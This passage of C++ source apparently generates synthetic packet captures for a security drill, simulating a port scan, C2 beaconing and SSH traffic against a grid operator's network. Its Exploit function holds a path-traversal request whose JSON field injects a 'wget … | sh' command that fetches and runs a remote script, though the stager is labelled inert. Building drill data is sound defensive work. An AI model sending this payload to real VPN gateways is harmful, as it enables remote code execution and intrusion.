        Put16(pdu, count);
        answer.push_back(char(2 * count));
        for (int i = 0; i < count; ++i) Put16(answer, uint16_t(rng.Range(0, 1000)));
        req = pdu;
        resp = answer;
      }
      f.Send(true, Modbus(transaction, 1, req), true);
      f.Send(false, Modbus(transaction, 1, resp), true);
      ++transaction;
      f.Wait(30 * kSec + rng.Range(-200 * kMs, 200 * kMs));
    }
    f.Close(true);
  }
}

std::vector<uint16_t> ScanPorts(int scale, uint16_t avoid) {
  std::vector<uint16_t> ports = {21,  22,   23,   25,    53,   80,   110,   111,   135,  139,
                                 143, 443,  445,  993,   995,  1723, 3306,  3389,  5900, 8080,
                                 502, 102,  2404, 20000, 8443, 4433, 10443, 1194,  500,  587,
                                 161, 4443, 8000, 8888,  9443, 5985, 47808, 44818, 1911, 5432};
  const size_t want = size_t(20 * scale);
  for (uint16_t extra = 1025; ports.size() < want; extra = uint16_t(extra + 37)) {
    if (extra != avoid && std::find(ports.begin(), ports.end(), extra) == ports.end()) {
      ports.push_back(extra);
    }
  }
  ports.resize(want);
  return ports;
}

// A SYN scan from B's server of the scan range: each probe from one source port; open
// ports answer SYN-ACK and get a RST, the firewall drops the rest.
void Scan(World& w, Rng& rng, const Plan& p) {
  const Addresses& a = w.addresses();
  const uint16_t sport = p.sc->scan_source_port;
  const std::map<uint32_t, std::vector<uint16_t>> open = {{a.gateway, {80, 443, 4433}},
                                                          {a.victim.Host(20), {80, 443}},
                                                          {a.victim.Host(25), {25, 443, 587}}};
  std::vector<std::pair<uint32_t, uint16_t>> probes;
  for (uint16_t port : ScanPorts(p.scale, sport)) {
    for (uint32_t i = 0; i < a.scan.Size(); ++i) probes.push_back({a.scan.Host(i), port});
  }
  for (size_t i = probes.size(); i > 1; --i) std::swap(probes[i - 1], probes[rng.Next() % i]);
  const int64_t lat = w.latency_ns();
  int64_t t = At(p, 0) + Minutes(8);
  for (auto [host, port] : probes) {
    t += rng.Range(2 * kMs, 7 * kMs);
    Datagram syn;
    syn.src = a.attacker;
    syn.dst = host;
    syn.sport = sport;
    syn.dport = port;
    syn.ttl = uint8_t(rng.Range(39, 59));
    syn.df = false;
    syn.ip_id = uint16_t(rng.Next());
    syn.seq = uint32_t(rng.Next());
    syn.flags = kSyn;
    syn.window = 1024;
    syn.options = std::string("\x02\x04\x05\xb4", 4);
    w.Emit(syn, t, Phase::kScan);
    auto it = open.find(host);
    if (it == open.end() ||
        std::find(it->second.begin(), it->second.end(), port) == it->second.end()) {
      continue;
    }
    Datagram synack;
    synack.src = host;
    synack.dst = a.attacker;
    synack.sport = port;
    synack.dport = sport;
    synack.ttl = 64;
    synack.ip_id = 0;
    synack.seq = uint32_t(rng.Next());
    synack.ack = syn.seq + 1;
    synack.flags = kSyn | kAck;
    synack.window = 64240;
    synack.options = std::string("\x02\x04\x05\xb4", 4);
    const int64_t t_synack = t + rng.Range(100 * kUs, 400 * kUs);
    w.Emit(synack, t_synack, Phase::kScan);
    Datagram rst = syn;
    rst.seq = syn.seq + 1;
    rst.flags = kRst;
    rst.window = 0;
    rst.options.clear();
    rst.ip_id = uint16_t(rng.Next());
    w.Emit(rst, t_synack + 2 * lat + rng.Range(100 * kUs, 400 * kUs), Phase::kScan);
  }
}

// The exploit attempt against the VPN gateway's web interface, and the gateway fetching
// the stager the injected command names. The payload is inert text.
void Exploit(World& w, Rng& rng, const Plan& p) {
  const Addresses& a = w.addresses();
  const std::string gw = Ip4Text(a.gateway), server = Ip4Text(a.attacker);
  Endpoint attacker{a.attacker, 0, 64, w.latency_ns()};
  Endpoint gateway{a.gateway, 80, 64, 250 * kUs};
  const std::string ua = "User-Agent: python-requests/2.31.0\r\n";
  int64_t t = At(p, 0) + Minutes(14);
  {
    attacker.port = EphemeralPort(rng, false, p.sc->scan_source_port);
    TcpFlow f(w, rng, Phase::kExploit, attacker, gateway, t);
    f.Connect();
    f.Send(true,
           absl::StrCat("GET /dana-na/auth/url_default/welcome.cgi HTTP/1.1\r\nHost: ", gw, "\r\n",
                        ua, "Accept: */*\r\nConnection: close\r\n\r\n"),
           true);
    f.Send(false, Http("HTTP/1.1 200 OK\r\nServer: Apache\r\nContent-Type: text/html\r\n"
                       "Connection: close\r\n",
                       "<html><head><title>Secure Access</title></head><body>"
                       "<form action=\"login.cgi\" method=\"post\">Username <input name=\"u\">"
                       "</form></body></html>\n"));
    f.Close(false);
  }
  t += Minutes(0.7);
  {
    attacker.port = EphemeralPort(rng, false, p.sc->scan_source_port);
    TcpFlow f(w, rng, Phase::kExploit, attacker, gateway, t);
    f.Connect();
    const std::string body = absl::StrCat(
        "{\"type\":\";wget -qO- http://", server,
        "/u.sh|sh;\",\"txtGCPProject\":\"a\",\"txtGCPSecret\":\"a\",\"txtGCPPath\":\"a\","
        "\"txtGCPBucket\":\"a\"}");
    f.Send(true,
           Http(absl::StrCat("POST /api/v1/totp/user-backup-code/../../system/maintenance/"
                             "archiving/cloud-server-test-connection HTTP/1.1\r\nHost: ",
                             gw, "\r\n", ua,
                             "Content-Type: application/json\r\nConnection: close\r\n"),
                body),
           true);
    f.Send(false, Http("HTTP/1.1 200 OK\r\nServer: Apache\r\nContent-Type: application/json\r\n"
                       "Connection: close\r\n",
                       "{\"error\":null,\"data\":{\"status\":\"ok\"}}"));
    f.Close(false);
    t = f.now();
  }
  {
    Endpoint fetcher{a.gateway, EphemeralPort(rng, false, p.sc->scan_source_port), 64, 250 * kUs};
    Endpoint stager{a.attacker, 80, 64, w.latency_ns()};
    TcpFlow f(w, rng, Phase::kExploit, fetcher, stager, t + rng.Range(300 * kMs, 900 * kMs));
    f.Connect();
    f.Send(true,
           absl::StrCat("GET /u.sh HTTP/1.1\r\nUser-Agent: Wget/1.21.3\r\nAccept: */*\r\n"
                        "Accept-Encoding: identity\r\nHost: ",
                        server, "\r\nConnection: Keep-Alive\r\n\r\n"),
           true);
    f.Send(false, Http("HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/x-sh\r\n",
                       "#!/bin/sh\n# accord drill: synthetic stager, inert text\n"
                       "echo 'stage 2 would be fetched here'\n"));
    f.Close(true);
  }
}

// Command and control: the compromised workstation opens a TLS session to B's server
// every 60 s +- 20 %; some beacons are tasked (a larger answer, then an upload).
void C2(World& w, Rng& rng, const Plan& p) {
  const Addresses& a = w.addresses();
  int64_t t = At(p, 0) + Minutes(20);
  for (int beacon = 0; t < p.end_ns - 20 * kSec; ++beacon) {
    Endpoint host{a.workstation, EphemeralPort(rng, true, p.sc->scan_source_port), 128, 400 * kUs};
    Endpoint server{a.attacker, 443, 64, w.latency_ns()};
    TcpFlow f(w, rng, Phase::kC2, host, server, t);
    f.Connect();
    f.Send(true, TlsClientHello(rng, p.sc->c2_domain, false), true);
    f.Send(false, TlsServerFlight(rng, 1850));
    f.Send(true, TlsClientFinish(rng) + TlsData(rng, size_t(rng.Range(310, 360))), true);
    const bool tasked = beacon % 7 == 3;
    f.Send(false, TlsData(rng, tasked ? size_t(rng.Range(1500, 9000)) : 64), !tasked);
    if (tasked) {
      f.Wait(rng.Range(200 * kMs, 2 * kSec));
      f.Send(true, TlsData(rng, size_t(rng.Range(2000, 24000))), true);
      f.Send(false, TlsData(rng, 64));
    }
    f.Close(true);
    t += 60 * kSec + rng.Range(-12 * kSec, 12 * kSec);
  }
}

// The attack's operator on the server: SSH sessions from a third address.
void OperatorSsh(World& w, Rng& rng, const Plan& p) {
  const Addresses& a = w.addresses();
  std::vector<double> starts = {5, 12.5, 31};  // minutes, in the first hour
  for (int h = 1; h < p.scale; ++h) starts.push_back(60.0 * h + double(rng.Range(5, 40)));
  for (double minute : starts) {
    Endpoint op{a.op, EphemeralPort(rng, false, 0), 64, 41 * kMs};
    Endpoint server{a.attacker, 22, 64, 60 * kUs};
    TcpFlow f(w, rng, Phase::kOperator, op, server, p.start_ns + Minutes(minute));
    f.Connect();
    f.Send(false, "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n", true);
    f.Send(true, "SSH-2.0-OpenSSH_9.6\r\n", true);
    f.Send(true, SshKexInit(rng, false), true);
    f.Send(false, SshKexInit(rng, true), true);
    f.Send(true, SshPacket(std::string(1, char(30)) + SshString(rng.Bytes(32))), true);
    const std::string host_key = SshString("ssh-ed25519") + SshString(rng.Bytes(32));
    const std::string sig = SshString("ssh-ed25519") + SshString(rng.Bytes(64));
    f.Send(false,
           SshPacket(std::string(1, char(31)) + SshString(host_key) + SshString(rng.Bytes(32)) +
                     SshString(sig)) +
               SshPacket(std::string(1, char(21))),
           true);
    f.Send(true, SshPacket(std::string(1, char(21))), true);
    // Encrypted from here on with AES-256-GCM: the packet length in clear, the padded
    // packet (a multiple of 16 bytes), the 16-byte tag.
    auto sealed = [&](size_t n) {
      std::string packet;
      Put32(packet, uint32_t((n + 15) / 16 * 16));
      return packet + rng.Bytes((n + 15) / 16 * 16 + 32);
    };
    f.Send(true, sealed(32), true);  // service request, authentication
    f.Send(false, sealed(48), true);
    f.Send(true, sealed(400), true);
    f.Send(false, sealed(32), true);
    const int commands = int(rng.Range(8, 20));
    for (int c = 0; c < commands; ++c) {
      const int keys = int(rng.Range(4, 18));
      for (int k = 0; k < keys; ++k) {  // a keystroke, its echo, an ACK
        f.Wait(rng.Range(80 * kMs, 300 * kMs));
        f.Send(true, sealed(16), true);
        f.Send(false, sealed(16), true);
        f.Ack(true);
      }
      f.Send(false, sealed(size_t(rng.Range(40, 3000))));
      f.Wait(rng.Range(2 * kSec, 20 * kSec));
    }
    f.Send(true, sealed(32), true);
    f.Send(false, sealed(64), true);
    f.Close(false);
  }
}

// Other customers of B's hosting provider: web sites, an authoritative DNS server, NTP.
void HostingBenign(World& w, Rng& rng, const Plan& p) {
  const Addresses& a = w.addresses();
  auto client = [&](bool windows) {
    return Endpoint{0xC0000200u | uint32_t(rng.Range(100, 250)), EphemeralPort(rng, windows, 0),
                    uint8_t(windows ? 128 : 64), rng.Range(4 * kMs, 70 * kMs)};
  };
  Arrivals(rng, p, 70, [&](int64_t t) {
    const uint32_t site = uint32_t(rng.Range(40, 47));
    Endpoint s{a.hosting.Host(site), 443, 64, 60 * kUs};
    HttpsVisit(w, rng, Phase::kBenign, client(rng.Chance(0.6)), s,
               absl::StrCat("shop", site, ".example.org"), t, int(rng.Range(1, 3)));
  });
  Arrivals(rng, p, 20, [&](int64_t t) {
    Endpoint s{a.hosting.Host(48), 80, 64, 60 * kUs};
    TcpFlow f(w, rng, Phase::kBenign, client(false), s, t);
    f.Connect();
    f.Send(true,
           "GET /index.html HTTP/1.1\r\nHost: blog.example.org\r\n"
           "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n"
           "Accept: text/html\r\nConnection: close\r\n\r\n",
           true);
    f.Send(false, Http("HTTP/1.1 200 OK\r\nServer: nginx/1.22.1\r\nContent-Type: text/html\r\n"
                       "Connection: close\r\n",
                       std::string(size_t(rng.Range(800, 9000)), 'x')));
    f.Close(false);
  });
  Arrivals(rng, p, 180, [&](int64_t t) {
    Endpoint c = client(false);
    Endpoint s{a.hosting.Host(53), 53, 64, 60 * kUs};
    const std::string name =
        absl::StrCat(rng.Chance(0.5) ? "www" : "mail", ".shop", rng.Range(40, 47), ".example.org");
    const auto id = uint16_t(rng.Next());
    EmitUdp(w, rng, Phase::kBenign, c, s, DnsQuery(id, name), t);
    EmitUdp(w, rng, Phase::kBenign, s, c, DnsAnswer(id, name, {a.hosting.Host(44)}, 3600, true),
            t + 2 * s.delay_ns + 90 * kUs);
  });
  for (uint32_t host : {a.hosting.Host(40), a.hosting.Host(53)}) {
    for (int64_t t = p.start_ns + rng.Range(0, 60 * kSec); t < p.end_ns; t += 64 * kSec) {
      Endpoint c{host, 123, 64, 60 * kUs}, s{0xC000027Bu, 123, 64, 22 * kMs};
      EmitUdp(w, rng, Phase::kBenign, c, s, NtpPacket(false, 0, 0, t, 0), t);
      EmitUdp(w, rng, Phase::kBenign, s, c,
              NtpPacket(true, t, t + s.delay_ns, t + s.delay_ns + 40 * kUs, 0xC000027Fu),
              t + 2 * s.delay_ns + 40 * kUs);
    }
  }
}

absl::StatusOr<World> Generate(const GridScenario& sc, uint64_t seed, int scale) {
  if (scale < 1 || scale > 1000) {
    return absl::InvalidArgumentError(absl::StrCat("scale must be 1 to 1000, not ", scale));
  }
  auto addresses = ResolveAddresses(sc);
  if (!addresses.ok()) return addresses.status();
  World w(*addresses, sc);
  Plan p;
  p.start_ns = absl::ToUnixNanos(sc.start);
  p.end_ns = p.start_ns + absl::ToInt64Nanoseconds(sc.duration) * scale;
  p.scale = scale;
  p.sc = &sc;
  Rng root(seed);
  // Each generator draws from its own stream, so that changing one leaves the others.
  Rng benign = root.Fork(), ot = root.Fork(), scan = root.Fork(), exploit = root.Fork(),
      c2 = root.Fork(), op = root.Fork(), hosting = root.Fork();
  SensorBenign(w, benign, p);
  OtModbus(w, ot, p);
  Scan(w, scan, p);
  Exploit(w, exploit, p);
  C2(w, c2, p);
  OperatorSsh(w, op, p);
  HostingBenign(w, hosting, p);
  for (std::vector<Record>* records : {&w.sensor(), &w.server()}) {
    std::sort(records->begin(), records->end(), [](const Record& x, const Record& y) {
      return std::tie(x.t_ns, x.order) < std::tie(y.t_ns, y.order);
    });
  }
  return w;
}

absl::StatusOr<CaptureSummary> WriteFile(const std::filesystem::path& out, const std::string& bytes,
                                         const std::vector<Record>& records) {
  std::ofstream file(out, std::ios::binary | std::ios::trunc);
  file.write(bytes.data(), std::streamsize(bytes.size()));
  file.close();
  if (!file) return absl::InternalError(absl::StrCat("cannot write ", out.string()));
  CaptureSummary summary;
  summary.packets = records.size();
  summary.bytes = bytes.size();
  if (!records.empty()) {
    summary.first_ns = uint64_t(records.front().t_ns);
    summary.last_ns = uint64_t(records.back().t_ns);
  }
  for (const Record& r : records) ++summary.by_phase[PhaseName(r.phase)];
  return summary;
}

void PutLe(std::string& s, uint32_t v, int n) {
  for (int i = 0; i < n; ++i) s.push_back(char(v >> (8 * i)));
}

}  // namespace

GridScenario DefaultGridScenario(absl::Time start) {
  GridScenario sc;
  sc.start = start;
  DeriveFilters(sc);
  return sc;
}

void DeriveFilters(GridScenario& sc) {
  const std::string server = absl::StrCat("host ", sc.attacker_server_ip);
  const std::string scan_port = absl::StrCat("tcp port ", sc.scan_source_port);
  sc.scan_filter = absl::StrCat(server, " and ", scan_port);
  sc.exploit_filter =
      absl::StrCat(server, " and host ", sc.vpn_gateway_ip, " and tcp port 80 and not ", scan_port);
  sc.c2_filter = absl::StrCat(server, " and host ", sc.compromised_host_ip,
                              " and tcp port 443 and not ", scan_port);
  sc.attack_filter = server;
  sc.victim_filter = absl::StrCat(server, " and net ", sc.victim_net);
  sc.operator_filter = absl::StrCat(server, " and host ", sc.operator_ip, " and tcp port 22");
}

absl::StatusOr<CaptureSummary> WriteSensorCapture(const std::filesystem::path& out,
                                                  const GridScenario& scenario, uint64_t seed,
                                                  int scale) {
  auto world = Generate(scenario, seed, scale);
  if (!world.ok()) return world.status();
  const seal::PcapngEncoder e(false);
  const seal::PcapngOption shb[] = {
      seal::TextOption(1, "Synthetic capture generated for an accord drill: not real traffic."),
      seal::TextOption(2, "x86_64 sensor appliance"), seal::TextOption(3, "Linux 6.1"),
      seal::TextOption(4, absl::StrCat("accord drill synthetic (grid scenario, seed ", seed,
                                       ", scale ", scale, ")"))};
  const seal::PcapngOption edge[] = {
      seal::TextOption(2, "edge0"),
      seal::TextOption(3, "grid operator Internet uplink, outside the edge firewall"),
      seal::U8Option(9, 9)};
  const seal::PcapngOption ot[] = {seal::TextOption(2, "ot0"),
                                   seal::TextOption(3, "OT segment span port (HMI and PLCs)"),
                                   seal::U8Option(9, 9)};
  std::string bytes = e.SectionHeader(shb) + e.InterfaceDescription(1, 262144, edge) +
                      e.InterfaceDescription(1, 262144, ot);
  for (const Record& r : world->sensor()) {
    const auto* data = reinterpret_cast<const uint8_t*>(r.frame.data());
    bytes += e.EnhancedPacket(r.iface, uint64_t(r.t_ns), uint32_t(r.frame.size()),
                              std::span<const uint8_t>(data, r.frame.size()));
  }
  return WriteFile(out, bytes, world->sensor());
}

absl::StatusOr<CaptureSummary> WriteServerCapture(const std::filesystem::path& out,
                                                  const GridScenario& scenario, uint64_t seed,
                                                  int scale) {
  auto world = Generate(scenario, seed, scale);
  if (!world.ok()) return world.status();
  std::string bytes;
  PutLe(bytes, 0xa1b2c3d4, 4);  // microsecond timestamps
  PutLe(bytes, 2, 2);
  PutLe(bytes, 4, 2);
  PutLe(bytes, 0, 4);
  PutLe(bytes, 0, 4);
  PutLe(bytes, 262144, 4);
  PutLe(bytes, 1, 4);  // LINKTYPE_ETHERNET
  std::vector<Record>& records = world->server();
  for (Record& r : records) {
    r.t_ns -= r.t_ns % kUs;  // what the file records
    PutLe(bytes, uint32_t(r.t_ns / kSec), 4);
    PutLe(bytes, uint32_t(r.t_ns % kSec / kUs), 4);
    PutLe(bytes, uint32_t(r.frame.size()), 4);
    PutLe(bytes, uint32_t(r.frame.size()), 4);
    bytes += r.frame;
  }
  return WriteFile(out, bytes, records);
}

}  // namespace accord::drill
